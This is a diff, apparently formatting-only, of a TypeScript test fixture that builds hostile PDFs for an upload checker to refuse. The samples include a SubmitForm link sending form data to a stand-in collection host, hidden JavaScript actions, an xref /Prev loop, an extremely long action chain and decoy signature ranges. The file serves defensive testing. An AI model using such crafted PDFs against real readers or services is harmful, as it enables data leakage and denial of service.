@@ -1,6 +1,6 @@
 import { constants, deflateRawSync } from 'node:zlib';
-import { PDF, PdfArray, PdfName, PdfNumber, PdfRef as LibRef } from '@libpdf/core';
-import { PDFDocument, PDFName, PDFString, type PDFObject } from 'pdf-lib';
+import { type PdfRef as LibRef, PDF, PdfArray, PdfName, PdfNumber } from '@libpdf/core';
+import { PDFDocument, PDFName, type PDFObject, PDFString } from 'pdf-lib';
 
 /** A file of the hostile corpus, with the reason its refusal must give. */
 export interface Hostile {
@@ -14,7 +14,11 @@ const latin1 = (s: string) => Buffer.from(s, 'latin1');
 /** A stream object's text: the dictionary with its /Length, then the data. */
 export function stream(dict: string, data: Uint8Array | string): Buffer {
   const bytes = typeof data === 'string' ? latin1(data) : Buffer.from(data);
-  return Buffer.concat([latin1(`<< ${dict} /Length ${bytes.length} >>\nstream\n`), bytes, latin1('\nendstream')]);
+  return Buffer.concat([
+    latin1(`<< ${dict} /Length ${bytes.length} >>\nstream\n`),
+    bytes,
+    latin1('\nendstream'),
+  ]);
 }
 
 /**
@@ -31,7 +35,11 @@ export function rawPdf(
   const offsets: number[] = [];
   objects.forEach((body, i) => {
     offsets.push(at);
-    const chunk = Buffer.concat([latin1(`${i + 1} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n')]);
+    const chunk = Buffer.concat([
+      latin1(`${i + 1} 0 obj\n`),
+      typeof body === 'string' ? latin1(body) : body,
+      latin1('\nendobj\n'),
+    ]);
     parts.push(chunk);
     at += chunk.length;
   });
@@ -40,7 +48,9 @@ export function rawPdf(
   if (Object.keys(compressed).length === 0) {
     const rows = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
     parts.push(
-      latin1(`xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`),
+      latin1(
+        `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
+      ),
     );
   } else {
     // Type 1 entries (offset, 4 bytes) and type 2 entries (object stream, index), W [1 4 2].
@@ -78,7 +88,8 @@ function onePage(extra: { catalog?: string; page?: string; more?: (string | Buff
   ]);
 }
 
-const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A ${action} >>]`;
+const link = (action: string) =>
+  `/Annots [<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A ${action} >>]`;
 
 /** A document made by pdf-lib, whose objects (the action among them) land in a compressed object stream. */
 async function inObjectStream(action: Record<string, PDFObject | string>): Promise<Uint8Array> {
@@ -147,7 +158,9 @@ export async function hostileUploads(): Promise<Hostile[]> {
     },
     {
       name: 'SubmitForm link',
-      bytes: onePage({ page: link('<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.invalid/) >> >>') }),
+      bytes: onePage({
+        page: link('<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.invalid/) >> >>'),
+      }),
       reason: /sends form data to an address \(https:\/\/collect\.example\.invalid\/\) in a link on page 1/,
     },
     {
@@ -201,7 +214,9 @@ export async function hostileUploads(): Promise<Hostile[]> {
     },
     {
       name: 'JavaScript as a stream, in an unreferenced object',
-      bytes: onePage({ more: [stream('/Type /Action /S /JavaScript', 'app.alert(1)'), '<< /S /JavaScript /JS 4 0 R >>'] }),
+      bytes: onePage({
+        more: [stream('/Type /Action /S /JavaScript', 'app.alert(1)'), '<< /S /JavaScript /JS 4 0 R >>'],
+      }),
       reason: /runs JavaScript in an object no page shows/,
     },
     {
@@ -243,15 +258,18 @@ export async function hostileUploads(): Promise<Hostile[]> {
  * objects one by one, and still finds the script the file hides.
  */
 function prevLoop(): Uint8Array {
-  const good = Buffer.from(onePage({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' })).toString('latin1');
+  const good = Buffer.from(onePage({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' })).toString(
+    'latin1',
+  );
   const at = good.lastIndexOf('xref');
   return new Uint8Array(latin1(good.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`)));
 }
 
 /** A long chain of harmless actions (each /Next the following one): checked without overflowing a stack. */
 export function longActionChain(length = 20_000): Uint8Array {
-  const actions = Array.from({ length }, (_, i) =>
-    `<< /S /GoTo /D [3 0 R /Fit]${i + 1 < length ? ` /Next ${i + 5} 0 R` : ''} >>`,
+  const actions = Array.from(
+    { length },
+    (_, i) => `<< /S /GoTo /D [3 0 R /Fit]${i + 1 < length ? ` /Next ${i + 5} 0 R` : ''} >>`,
   );
   return onePage({ catalog: '/OpenAction 4 0 R', more: actions });
 }
@@ -304,7 +322,9 @@ export function decoyRanges(signed: Uint8Array): Uint8Array {
   const range = text.slice(at, text.indexOf(']', at) + 1);
   const decoy = latin1(`% ${range}\n`.padEnd(9000, ' '));
   const copies = Math.ceil((4.5 * 1024 * 1024 - signed.length) / decoy.length);
-  return new Uint8Array(Buffer.concat([Buffer.from(signed), ...Array(copies).fill(decoy), latin1('\n%%EOF\n')]));
+  return new Uint8Array(
+    Buffer.concat([Buffer.from(signed), ...Array(copies).fill(decoy), latin1('\n%%EOF\n')]),
+  );
 }
 
 /**
@@ -316,7 +336,8 @@ export function manySignatures(count: number): Uint8Array {
   const placeholder = `[0 ${'0'.repeat(10)} ${'0'.repeat(10)} ${'0'.repeat(10)}]`;
   const signatures = Array.from(
     { length: count },
-    () => `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${placeholder} /Contents <${'00'.repeat(64)}> >>`,
+    () =>
+      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${placeholder} /Contents <${'00'.repeat(64)}> >>`,
   );
   const fields = Array.from({ length: count }, (_, i) => `<< /FT /Sig /T (f${i}) /V ${i + 5} 0 R >>`);
   const fieldRefs = fields.map((_, i) => `${count + i + 5} 0 R`).join(' ');
